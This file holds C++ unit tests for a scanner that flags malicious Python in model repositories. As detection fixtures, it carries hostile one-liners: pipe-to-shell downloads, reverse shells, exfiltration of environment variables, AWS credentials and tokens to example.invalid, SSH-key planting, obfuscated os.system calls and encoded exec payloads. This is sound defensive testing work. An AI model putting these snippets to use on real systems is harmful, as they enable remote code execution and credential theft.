#include "scanners/artifact/text/python_inspector.h"

#include <gtest/gtest.h>

#include <array>
#include <random>
#include <string>

namespace ringfort::scanners {
namespace {

ArtifactReport Scan(std::string_view source, Role role = Role::kAny) {
  Inspection inspection("modeling.py", Mode::kFull, {}, {});
  InspectPythonSource({"modeling.py", AsBytes(source), nullptr, role}, inspection);
  return inspection.TakeReport();
}
bool Holds(const ArtifactReport& report, std::string_view rule, Severity severity) {
  for (const Finding& finding : report.findings)
    if (finding.rule == rule && finding.severity == severity) return true;
  return false;
}
std::string All(const ArtifactReport& report) {
  std::string all;
  for (const Finding& finding : report.findings)
    all += finding.rule + " " + std::string(Name(finding.severity)) + " " + finding.evidence + "\n";
  for (const SkippedPart& part : report.skipped) all += part.what + ": " + part.reason + "\n";
  return all;
}

constexpr std::array<std::string_view, 5> kHonest = {
    R"(# coding=utf-8
"""PyTorch example model. Uses os.system nowhere; see `subprocess` docs for nothing."""
import math
import os
import warnings
from typing import List, Optional, Tuple, Union

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_example import ExampleConfig

logger = logging.get_logger(__name__)
CACHE = os.environ.get("HF_HOME", os.path.expanduser("~/.cache/huggingface"))
if is_flash_attn_available():
    from flash_attn import flash_attn_func


class ExampleRMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size))
        self.variance_epsilon = eps

    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
        input_dtype = hidden_states.dtype
        variance = hidden_states.to(torch.float32).pow(2).mean(-1, keepdim=True)
        return self.weight * (hidden_states * torch.rsqrt(variance + self.variance_epsilon)).to(input_dtype)


@torch.jit.script
def rotate(x, cos: Optional[torch.Tensor] = None):
    return torch.cat((-x[..., x.shape[-1] // 2 :], x[..., : x.shape[-1] // 2]), dim=-1)


class ExampleModel(PreTrainedModel):
    config_class = ExampleConfig

    def _init_weights(self, module):
        std = self.config.initializer_range
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=std)

    def chat(self, tokenizer, query: str, history: List[Tuple[str, str]] = None, **kwargs):
        self.eval()
        fn = getattr(self, f"build_{self.config.kind}")
        act = getattr(F, self.config.hidden_act)
        logger.warning_once(f"using {self.__class__.__name__} with {fn!r}: {history or []}")
        m = torch.compile(self)
        with torch.no_grad():
            outputs = [o for o in self.generate(**kwargs) if o is not None]
        return outputs, {k: v for k, v in kwargs.items()}, act, m
)",
    R"(import base64
from io import BytesIO
import requests
from PIL import Image
import re

PATTERN = re.compile(r"<img>(.*?)</img>")

def load_image(path):
    if path.startswith("http"):
        return Image.open(BytesIO(requests.get(path, timeout=10).content))
    if path.startswith("data:"):
        return Image.open(BytesIO(base64.b64decode(path.split(",")[1])))
    with open(path, "rb") as f:
        return Image.open(f)

def save(d, path):
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join(sorted(d)))
)",
    // TorchScript's code archive
    R"(class Net(Module):
  __parameters__ = ["weight", "bias", ]
  __buffers__ = []
  training : bool
  _is_full_backward_hook : Optional[bool]
  fc : __torch__.torch.nn.modules.linear.Linear
  def forward(self: __torch__.Net,
    x: Tensor) -> Tensor:
    _0 = __torch__.torch.nn.functional.relu
    if torch.gt(torch.len(torch.size(x)), 1):
      y = torch.addmm(CONSTANTS.c0, x, ops.prim.NumToTensor(torch.size(x, 0)))
    else:
      ops.prim.RaiseException("AssertionError: ")
      y = annotate(Tensor, ops.prim.unchecked_unwrap_optional(None))
    _1 = uninitialized(Tensor)
    return torch.add(y, _1, alpha=1)
)",
    R"(import importlib
import sys
import json
from setuptools import find_packages, setup

with open("README.md") as f:
    long_description = f.read()
setup(name="x", version="1.0", long_description=long_description, packages=find_packages(), install_requires=["torch>=2"])
)",
    "from dataclasses import dataclass\n\n@dataclass\nclass C:\n    a: int = 1\n    b: 'str' = \"it's\"\n    def "
    "run(self): return "
    "self.system('x')\n",
};

TEST(Python, HonestSourcesAreClean) {
  for (const std::string_view source : kHonest) {
    const ArtifactReport report = Scan(source, Role::kPythonSource);
    EXPECT_EQ(All(report), "");
  }
}

TEST(Python, RegistriesAreHonest) {
  EXPECT_EQ(All(Scan("def f(cls):\n  return [c for c in cls.__subclasses__()], cls.__name__\n")), "");
}

TEST(Python, Processes) {
  EXPECT_TRUE(Holds(Scan("import subprocess\nsubprocess.run(['make'])\n"), "RF-PYS-001", Severity::kMedium));
  EXPECT_TRUE(Holds(Scan("import os\nos.system('echo x')\n", Role::kPythonSource), "RF-PYS-001", Severity::kHigh));
  for (const std::string_view source : {
           "import os\nos.system('curl https://example.invalid/x | sh')\n",
           "import os as o\nrun = o.system\nrun('bash -i >& /dev/tcp/example.invalid/1 0>&1')\n",
           "from subprocess import Popen as P\nP(['sh', '-c', 'wget -qO- example.invalid | bash'])\n",
           "import os\ncmd = 'curl ' + url + ' | bash'\nos.popen(cmd)\n",
           "import os\nos.system(f'curl {u} | sh')\n",
       })
    EXPECT_TRUE(Holds(Scan(source), "RF-PYS-001", Severity::kCritical)) << source << All(Scan(source));
  for (const std::string_view source : {
           "from os import *\nsystem('echo')\n",
           "import threading, os\nthreading.Thread(target=os.system, args=('echo',)).start()\n",
           "import pty\npty.spawn('/bin/sh')\n",
           "import os\n(lambda x: os.execv(x, []))('a')\n",
           "import functools, os\nf = functools.partial(os.system, 'echo')\nf()\n",
           "print(f'{os.system(1)}')\n",
           "import os\nwith x as y: os.popen('echo')\n",
           "import os; a, b = os.system, 2\na('echo')\n",
       })
    EXPECT_NE(Scan(source).verdict(), Verdict::kClean) << source;
}

TEST(Python, DisguisedCalls) {
  for (const std::string_view source : {
           "import os\ngetattr(os, 'sys' + 'tem')('echo')\n",
           "__import__('os').system('echo')\n",
           "import importlib\nimportlib.import_module('o' + 's').popen('echo')\n",
           "import sys, os\nsys.modules['os'].system('echo')\n",
           "import os\nvars(os)['system']('echo')\n",
           "import os\nos.__dict__['system']('echo')\n",
           "__builtins__.__import__('os').system('echo')\n",
           "__builtins__.__dict__['__import__']('os').system('echo')\n",
           "globals()['__builtins__'].__import__('os').system('echo')\n",
           "getattr(__import__('os'), 'metsys'[::-1])('echo')\n",
           "getattr(__import__('so'[::-1]), ''.join([chr(c) for c in [115,121,115,116,101,109]]))('echo')\n",
           "getattr(__import__('os'), ''.join(map(chr, [115,121,115,116,101,109])))('echo')\n",
           "import base64\ngetattr(__import__(base64.b64decode('b3M=').decode()), 'system')('echo')\n",
           "getattr(__import__('\\x6f\\x73'), 'sys%s' % 'tem')('echo')\n",
           "getattr(__import__(bytes.fromhex('6f73').decode()), 'system')('echo')\n",
           "import codecs\ngetattr(__import__(codecs.decode('bf','rot13')), 'system')('echo')\n",
           "import operator, os\noperator.attrgetter('system')(os)('echo')\n",
           "f = 'sys'\nf += 'tem'\nimport os\ngetattr(os, f)('echo')\n",
       })
    EXPECT_TRUE(Holds(Scan(source), "RF-PYS-004", Severity::kCritical)) << source << All(Scan(source));
}

TEST(Python, HiddenCode) {
  for (const std::string_view source : {
           "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
           "import base64, zlib\nexec(zlib.decompress(base64.b64decode(x)).decode())\n",
           "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()\n",
           "import marshal\nexec(marshal.loads(data))\n",
           "from base64 import b64decode as d\ne = exec\npayload = d('cHJpbnQoMSk=')\ne(compile(payload, 'x', "
           "'exec'))\n",
           "import base64 as b\nexec(getattr(b, 'b64' + 'decode')(x))\n",
           "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
           "import base64, os\nos.system(base64.b64decode('ZWNobyBoaQ==').decode())\n",
       })
    EXPECT_TRUE(Holds(Scan(source), "RF-PYS-002", Severity::kCritical)) << source << All(Scan(source));
  EXPECT_TRUE(Holds(Scan("import urllib.request\nexec(urllib.request.urlopen('http://example.invalid').read())\n"),
                    "RF-PYS-003", Severity::kCritical));
  EXPECT_TRUE(
      Holds(Scan("import requests\ncode = requests.get(u).text\nexec(code)\n"), "RF-PYS-003", Severity::kCritical));
  EXPECT_TRUE(Holds(Scan("from urllib.request import urlopen\nwith urlopen(u) as r:\n    exec(r.read())\n"),
                    "RF-PYS-003", Severity::kCritical));
  EXPECT_TRUE(Holds(Scan("eval(expression)\n"), "RF-PYS-006", Severity::kMedium));
  EXPECT_EQ(Scan("eval('1 + 1')\n").verdict(), Verdict::kClean);
  EXPECT_TRUE(Holds(Scan("eval(\"__import__('os').system('echo')\")\n"), "RF-PYS-004", Severity::kCritical));
}

TEST(Python, OtherHarm) {
  EXPECT_TRUE(Holds(
      Scan("import socket,os,subprocess\ns=socket.socket()\ns.connect(('example.invalid',1))\nos.dup2(s.fileno(),0)\n"
           "subprocess.call(['/bin/sh','-i'])\n"),
      "RF-PYS-005", Severity::kCritical));
  EXPECT_TRUE(Holds(Scan("import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))\n"),
                    "RF-PYS-007", Severity::kHigh));
  EXPECT_TRUE(Holds(Scan("import requests\nk = open('/root/.aws/credentials').read()\nrequests.post(u, data=k)\n"),
                    "RF-PYS-007", Severity::kHigh));
  EXPECT_TRUE(Holds(Scan("import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(k)\n"), "RF-PYS-008",
                    Severity::kHigh));
  EXPECT_TRUE(Holds(Scan("().__class__.__base__.__subclasses__()[1]('x')\n"), "RF-PYS-012", Severity::kHigh));
  EXPECT_TRUE(Holds(
      Scan(
          "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n"
          "  def run(self):\n    os.system('echo')\nsetup(cmdclass={'install': I})\n"),
      "RF-PYS-013", Severity::kHigh));
  EXPECT_TRUE(Holds(Scan("import torch\ntorch.load('x.pt')\n"), "RF-PYS-011", Severity::kLow));
  EXPECT_EQ(All(Scan("import torch\ntorch.load('x.pt', weights_only=True)\n")), "");
  EXPECT_TRUE(Holds(Scan("x = 1 # \xE2\x80\xAE\n"), "RF-PYS-014", Severity::kMedium));
  EXPECT_TRUE(Holds(Scan("TOKEN = 'hf_"
                         "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3k'\n"),
                    "RF-SEC-001", Severity::kHigh));
  EXPECT_EQ(Scan("TOKEN = 'hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'\n").verdict(), Verdict::kClean);
}

TEST(Python, OpensAPickleThatStandsInTheSource) {
  const std::array<Inspector, 1> inspectors = {Inspector{
      formats::Format::kPickle,
      [](const Content& content, Inspection& inspection) { inspection.Describe("pickle", AsText(content.bytes)); }}};
  const auto opened = [&](std::string_view source) {
    Inspection inspection("modeling.py", Mode::kFull, {}, inspectors);
    InspectPythonSource({"modeling.py", AsBytes(source), nullptr, Role::kAny}, inspection);
    const ArtifactReport report = inspection.TakeReport();
    return report.facts.contains("pickle") ? report.facts.at("pickle") : std::string();
  };
  EXPECT_TRUE(opened("import pickle\nx = pickle.loads(b'cacme\\nload\\n)R.')\n").starts_with("cacme"));
  EXPECT_EQ(opened("import pickle\nx = pickle.loads(data)\n"), "");
  EXPECT_EQ(opened("import json\nx = json.loads('[1]')\n"), "");
}

TEST(Python, ObscuredCode) {
  for (const std::string_view source : {
           "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n",
           "exec(''.join(map(chr, [112, 114, 105, 110, 116])))\n",
           "exec(')1(tnirp'[::-1])\n",
           "d = b'abc'\nexec(bytes(b ^ 66 for b in d))\n",
           "import base64\ndef f(s):\n  return base64.b64decode(s)\nexec(f('cHJpbnQoMSk='))\n",
           "e = None or exec\ne(__import__('zlib').decompress(b'x'))\n",
       })
    EXPECT_TRUE(Holds(Scan(source), "RF-PYS-002", Severity::kCritical)) << source << All(Scan(source));
  for (const std::string_view source : {
           "import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('http://example.invalid').content)\n"
           "subprocess.Popen(['/tmp/x'])\n",
           "import urllib.request as u, os\nu.urlretrieve('http://example.invalid', '/tmp/x')\nos.system('/tmp/x')\n",
       })
    EXPECT_TRUE(Holds(Scan(source), "RF-PYS-003", Severity::kCritical)) << source << All(Scan(source));
  EXPECT_TRUE(Holds(Scan("import timeit\ntimeit.timeit(\"__import__('os').system('echo')\")\n"), "RF-PYS-004",
                    Severity::kCritical));
  EXPECT_TRUE(Holds(Scan("class A:\n  def __reduce__(self):\n    return (exec, ('print(1)',))\n"), "RF-PYS-017",
                    Severity::kHigh));
  EXPECT_EQ(All(Scan("class A:\n  def __reduce__(self):\n    return (A, (self.x,))\n")), "");
  EXPECT_TRUE(Holds(Scan("import ctypes\nctypes.CDLL(None).system(b'echo')\n"), "RF-PYS-010", Severity::kCritical));
  EXPECT_TRUE(Holds(Scan("import socket, os\nsocket.gethostbyname(os.environ['HF_TOKEN'] + '.example.invalid')\n"),
                    "RF-PYS-007", Severity::kHigh));
  EXPECT_EQ(Scan("def run(system, eval):\n  return eval(system)\n").verdict(), Verdict::kClean);
}

TEST(Python, LoadingIsWeighed) {
  for (const std::string_view source : {
           "import torch\ntorch.load('x.pt', weights_only=False)\n",
           "import numpy as np\nnp.load('x.npy', allow_pickle=True)\n",
           "import yaml\nyaml.load(open('x'), Loader=yaml.UnsafeLoader)\n",
           "import pickle\npickle.load(open('x', 'rb'))\n",
       })
    EXPECT_TRUE(Holds(Scan(source), "RF-PYS-011", Severity::kLow)) << source;
  EXPECT_TRUE(Holds(Scan("import torch\nfrom huggingface_hub import hf_hub_download\n"
                         "torch.load(hf_hub_download('a/b', 'c'), weights_only=False)\n"),
                    "RF-PYS-011", Severity::kMedium));
  EXPECT_TRUE(
      Holds(Scan("import pickle, requests\npickle.loads(requests.get(u).content)\n"), "RF-PYS-011", Severity::kHigh));
  EXPECT_EQ(All(Scan("import yaml\nyaml.load(open('x'), Loader=yaml.SafeLoader)\nyaml.safe_load(f)\n")), "");
}

TEST(Python, SurvivesHostileInput) {
  const std::string whole(kHonest[0]);
  for (std::size_t size = 0; size < whole.size(); size += 3) Scan(std::string_view(whole).substr(0, size));
  std::mt19937 random(3);
  const std::string attack =
      "import os,base64 as b\ngetattr(os,'s'+f'{x[::-1]!r:>{w}}'%(1,2))(*a,**{'k':[b.b64decode('eA=='),]})\n";
  for (int round = 0; round < 20000; ++round) {
    std::string text = attack;
    for (int i = 0; i < 4; ++i) text[random() % text.size()] = static_cast<char>(random() % 128);
    Scan(text);
  }
  EXPECT_EQ(Scan(std::string(300000, '(')).verdict(), Verdict::kIncomplete);
  Scan("x = " + std::string(300000, '['));
  std::string doubling = "a = 'aaaaaaaa'\n";
  for (int i = 0; i < 3000; ++i) doubling += "a = a + a\nb = a\n";
  Scan(doubling);
  std::string fields = "x";
  for (int i = 0; i < 12; ++i) fields = "f'''{" + fields + "}'''";
  Scan(fields);
}

}  // namespace
}  // namespace ringfort::scanners
